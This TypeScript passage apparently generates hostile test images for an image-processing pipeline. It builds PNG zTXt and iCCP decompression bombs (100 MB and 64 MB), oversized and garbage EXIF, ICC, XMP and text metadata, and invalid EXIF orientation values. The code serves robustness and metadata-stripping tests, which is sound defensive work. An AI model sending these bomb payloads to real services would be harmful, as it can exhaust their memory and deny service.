  add({ name: 'metadata/jpeg-iptc', group: 'metadata', bytes: insertJpegSegments(smallJpeg, jpegSegment(0xed, iptc)), expect: ['ok'], size: { width: 32, height: 24 }, secrets: ['SECRET-IPTC', '8BIM'] });
  // One maximal (64 KB) EXIF segment of garbage after a valid TIFF header, then 100 more APP1s.
  const hugeExif = jpegSegment(0xe1, exifPayload(65533, (i) => (i * 31) & 0xff));
  add({ name: 'metadata/jpeg-exif-64k-garbage', group: 'metadata', bytes: insertJpegSegments(smallJpeg, hugeExif), expect: ['ok'], size: { width: 32, height: 24 } });
  add({ name: 'metadata/jpeg-exif-100-segments', group: 'metadata', bytes: insertJpegSegments(smallJpeg, ...Array.from({ length: 100 }, () => hugeExif)), expect: ['ok'], size: { width: 32, height: 24 } });
  // An ICC profile spread over 40 APP2 chunks (2.6 MB) whose contents are garbage.
  const iccChunks = Array.from({ length: 40 }, (_, i) =>
    jpegSegment(0xe2, concat(ascii('ICC_PROFILE\0'), Uint8Array.of(i + 1, 40), Uint8Array.from({ length: 65000 }, (_, j) => (j * 7 + i) & 0xff))),
  );
  add({ name: 'metadata/jpeg-icc-2.6mb-garbage', group: 'metadata', bytes: insertJpegSegments(smallJpeg, ...iccChunks), expect: ['ok'], size: { width: 32, height: 24 } });
  // An ICC chunk sequence that lies about its count (chunk 1 of 255, only one present).
  add({ name: 'metadata/jpeg-icc-missing-chunks', group: 'metadata', bytes: insertJpegSegments(smallJpeg, jpegSegment(0xe2, concat(ascii('ICC_PROFILE\0'), Uint8Array.of(1, 255), new Uint8Array(1000)))), expect: ['ok'], size: { width: 32, height: 24 } });
  // PNG: a zTXt "zip bomb" (100 MB of text in ~100 KB), a garbage iCCP, a huge eXIf and a 1 MB iTXt.
  const ztxtBomb = pngChunk('zTXt', concat(ascii('Comment\0\0'), new Uint8Array(deflateSync(new Uint8Array(100 * 1024 * 1024), { level: 9 }))));
  add({ name: 'metadata/png-ztxt-100mb-bomb', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, ztxtBomb), expect: ['ok'], size: { width: 32, height: 24 } });
  const iccpGarbage = pngChunk('iCCP', concat(ascii('evil\0\0'), new Uint8Array(deflateSync(Uint8Array.from({ length: 200_000 }, (_, i) => i & 0xff)))));
  add({ name: 'metadata/png-iccp-garbage', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, iccpGarbage), expect: ['ok'], size: { width: 32, height: 24 } });
  const iccpBomb = pngChunk('iCCP', concat(ascii('bomb\0\0'), new Uint8Array(deflateSync(new Uint8Array(64 * 1024 * 1024), { level: 9 }))));
  add({ name: 'metadata/png-iccp-64mb-bomb', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, iccpBomb), expect: ['ok'], size: { width: 32, height: 24 } });
  add({ name: 'metadata/png-exif-1mb-garbage', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, pngChunk('eXIf', exifPayload(1_000_000, (i) => i & 0xff).subarray(6))), expect: ['ok'], size: { width: 32, height: 24 } });
  add({ name: 'metadata/png-itxt-1mb', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, pngChunk('iTXt', concat(ascii('XML:com.adobe.xmp\0\0\0\0\0'), new Uint8Array(1_000_000).fill(0x41)))), expect: ['ok'], size: { width: 32, height: 24 } });
  add({ name: 'metadata/png-10000-text-chunks', group: 'metadata', bytes: insertPngChunksAfterIhdr(smallPng, ...Array.from({ length: 10_000 }, (_, i) => pngChunk('tEXt', ascii(`k${i}\0v`)))), expect: ['ok'], size: { width: 32, height: 24 } });
  // WebP: EXIF and XMP chunks of garbage declared in VP8X.
  const webpMeta = await bytesOf(photoMeta.clone().webp().withExif(exif).toBuffer());
  add({
    name: 'metadata/webp-garbage-xmp-chunk',
    group: 'metadata',
    bytes: (() => {
      const extra = riffChunk('XMP ', Uint8Array.from({ length: 100_000 }, (_, i) => (i * 13) & 0xff));
      const out = concat(webpMeta, extra);
      new DataView(out.buffer).setUint32(4, out.length - 8, true);
      out[20] |= 0x04; // VP8X flag: XMP present
      return out;
    })(),
    expect: ['ok'],
    size: { width: 120, height: 80 },
    secrets: ['SECRET-EXIF-DESCRIPTION'],
  });

  // ---------------------------------------------------------------- EXIF orientation 1–8 (and invalid values)
  const upright = quadrantImage();
  for (let o = 1; o <= 8; o++) {
    const stored = storedFor(o, upright);
    const raw = sharp(stored.data, { raw: { width: stored.width, height: stored.height, channels: 3 } });
    add({
      name: `orientation/jpeg-${o}`,
      group: 'orientation',
      bytes: await bytesOf(raw.clone().jpeg({ quality: 100, chromaSubsampling: '4:4:4' }).withMetadata({ orientation: o }).toBuffer()),
      expect: ['ok'],
      size: { width: QW, height: QH },
      colours: quadrantColours(12),
      orientation: o,
      withAnalyser: o === 3 || o === 6 || o === 8,
    });
  }
  for (const [label, o, make] of [
    ['png-6', 6, (s: ReturnType<typeof sharp>) => s.png()],
    ['webp-8', 8, (s: ReturnType<typeof sharp>) => s.webp({ lossless: true })],
    ['avif-3', 3, (s: ReturnType<typeof sharp>) => s.avif({ lossless: true, effort: 0 })],
  ] as const) {
    const stored = storedFor(o, upright);
    const raw = sharp(stored.data, { raw: { width: stored.width, height: stored.height, channels: 3 } });
    add({
      name: `orientation/${label}`,
      group: 'orientation',
      bytes: await bytesOf(make(raw).withMetadata({ orientation: o }).toBuffer()),
      expect: ['ok'],
      size: { width: QW, height: QH },
      colours: quadrantColours(label.startsWith('avif') ? 30 : 2),
      // HEIF carries rotation as irot/imir boxes that libheif applies while decoding, so an AVIF
      // arrives upright and reports orientation 1; the colours above prove it is upright.
      orientation: label.startsWith('avif') ? 1 : o,
    });
  }
  // Out-of-range orientation values are ignored (treated as 1): the stored pixels are shown as they are.
  const uprightJpeg = await bytesOf(sharp(upright.data, { raw: { width: QW, height: QH, channels: 3 } }).jpeg({ quality: 100, chromaSubsampling: '4:4:4' }).withExif({ IFD0: { Orientation: '1' } }).toBuffer());
  for (const value of [0, 9, 255]) {
    const out = uprightJpeg.slice();
    // Orientation tag 0x0112 in the little- or big-endian IFD: patch its SHORT value.
    const le = findTag(out, [0x12, 0x01, 0x03, 0x00]);
    const be = findTag(out, [0x01, 0x12, 0x00, 0x03]);
    if (le >= 0) new DataView(out.buffer).setUint16(le + 8, value, true);
    else if (be >= 0) new DataView(out.buffer).setUint16(be + 8, value, false);
    else throw new Error('no orientation tag written');
    add({ name: `orientation/jpeg-invalid-${value}`, group: 'orientation', bytes: out, expect: ['ok'], size: { width: QW, height: QH }, colours: quadrantColours(12), orientation: 1 });
  }

  return inputs;
}

function findTag(bytes: Uint8Array, pattern: readonly number[]): number {
  outer: for (let i = 0; i + pattern.length <= bytes.length && i < 4096; i++) {
    for (let j = 0; j < pattern.length; j++) if (bytes[i + j] !== pattern[j]) continue outer;
    return i;
  }
  return -1;
}

/** Count inputs per group and per expected class, for the printed summary. */
export function summarise(inputs: readonly HostileInput[]): { groups: Record<string, number>; accept: number; reject: number; either: number } {
  const groups: Record<string, number> = {};
  let accept = 0;
  let reject = 0;
  let either = 0;
  for (const input of inputs) {
    groups[input.group] = (groups[input.group] ?? 0) + 1;
    if (input.expect.length > 1) either++;
    else if (input.expect[0] === 'ok') accept++;
    else reject++;
  }
  return { groups, accept, reject, either };
}
